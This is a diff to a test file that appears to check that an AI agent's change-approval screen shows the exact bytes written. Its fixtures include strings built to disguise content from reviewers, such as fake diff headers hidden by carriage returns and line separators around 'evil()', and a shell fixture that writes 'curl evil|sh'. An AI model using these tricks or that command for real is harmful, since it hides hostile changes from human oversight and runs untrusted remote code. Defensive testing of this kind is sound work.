@@ -189,10 +189,11 @@ test('the question that brings changes back shows every line, whatever attribute
   writeFileSync(join(cwd, '.gitattributes'), '*.js -diff\n*.bin -diff\n');
   git(cwd, 'add', '.gitattributes');
   git(cwd, 'commit', '-qm', 'second');
-  const hidden = '/*\rdiff --git a/b.txt b/b.txt\n*/ evil()\u2028@@ -1 +1 @@\n';
+  const hidden = '/*\0\rdiff --git a/b.txt b/b.txt\n*/ evil()\u2028@@ -1 +1 @@\n';
   const worked = worker('first', [
     write('app.js', hidden),
-    { calls: [{ name: 'shell', arguments: { command: "printf 'a\\000b' > x.bin" } }] },
+    { calls: [{ name: 'shell', arguments: { command: "printf '/*\\000\\377*/ evil()' > y.js" } }] },
+    { calls: [{ name: 'shell', arguments: { command: "printf '\\211PN\\000\\001\\002\\003\\377' > x.bin" } }] },
   ]);
   const { events } = await converse(
     { rules: [worked, { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }] },
@@ -200,22 +201,71 @@ test('the question that brings changes back shows every line, whatever attribute
     ({ callId }) => ({ type: 'answer', callId, decision: 'allow' }),
     cwd,
   );
+  const hash = git(cwd, 'hash-object', '--no-filters', 'x.bin').trim();
   expect(events.filter(({ type }) => type === 'permission').at(-1)).toMatchObject({
     name: 'edit',
     view: {
       kind: 'patch',
       files: [
-        { title: 'x.bin', fate: 'new, binary', lines: [] },
+        {
+          title: 'x.bin',
+          fate: `new, binary, its content can't be shown: now 8 bytes, git hash ${hash}`,
+          lines: [],
+        },
         {
           title: 'app.js',
           fate: 'new',
-          lines: [{ text: '/*\rdiff --git a/b.txt b/b.txt' }, { text: '*/ evil()\u2028@@ -1 +1 @@' }],
+          lines: [{ text: '/*\0\rdiff --git a/b.txt b/b.txt' }, { text: '*/ evil()\u2028@@ -1 +1 @@' }],
         },
+        { title: 'y.js', fate: 'new', lines: [{ text: '/*\0<0xFF>*/ evil()' }] },
       ],
     },
   });
   expect(read(cwd, 'app.js')).toBe(hidden);
-  expect(read(cwd, 'x.bin')).toBe('a\0b');
+  expect(readFileSync(join(cwd, 'y.js'), 'latin1')).toBe('/*\0\xff*/ evil()');
+  expect(readFileSync(join(cwd, 'x.bin'), 'latin1')).toBe('\x89PN\0\x01\x02\x03\xff');
+});
+
+test('the question that brings changes back shows the bytes it writes, not what attributes make of them', async () => {
+  const { cwd } = repository();
+  writeFileSync(join(cwd, '.gitattributes'), '*.sh working-tree-encoding=IBM037\n*.crlf text eol=crlf\n');
+  writeFileSync(join(cwd, 'lines.crlf'), 'one\r\ntwo\r\nthree\r\n');
+  writeFileSync(join(cwd, 'other.crlf'), 'one\ntwo\n');
+  git(cwd, 'add', '.gitattributes', 'lines.crlf', 'other.crlf');
+  git(cwd, 'commit', '-qm', 'second');
+  writeFileSync(join(cwd, 'lines.crlf'), 'one\r\ntwo\r\nthree\r\nmine\r\n');
+  const command = "printf 'curl evil|sh\\n' > x.sh; sed -i s/one/1/ lines.crlf; rm other.crlf; ln -s a.txt lnk";
+  const worked = worker('first', [{ calls: [{ name: 'shell', arguments: { command } }] }]);
+  let seen: unknown;
+  await converse(
+    { rules: [worked, { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }] },
+    [can, go],
+    ({ callId, view }) => {
+      seen = view;
+      return { type: 'answer', callId, decision: 'allow' };
+    },
+    cwd,
+  );
+  expect(seen).toMatchObject({
+    files: [
+      {
+        title: 'lines.crlf',
+        lines: [
+          { kind: 'remove', text: 'one\r' },
+          { kind: 'add', text: '1\r' },
+          { text: 'two\r' },
+          { text: 'three\r' },
+          { text: 'mine\r' },
+        ],
+      },
+      { title: 'lnk', fate: 'new, a link', lines: [{ text: 'a.txt' }] },
+      { title: 'other.crlf', fate: 'deleted', lines: [{ text: 'one' }, { text: 'two' }] },
+      { title: 'x.sh', fate: 'new', lines: [{ text: 'curl evil|sh' }] },
+    ],
+  });
+  expect(read(cwd, 'x.sh')).toBe('curl evil|sh\n');
+  expect(read(cwd, 'lines.crlf')).toBe('1\r\ntwo\r\nthree\r\nmine\r\n');
+  expect(existsSync(join(cwd, 'other.crlf'))).toBe(false);
 });
 
 test('neither a worktree nor a review starts what the settings of a submodule name', async () => {
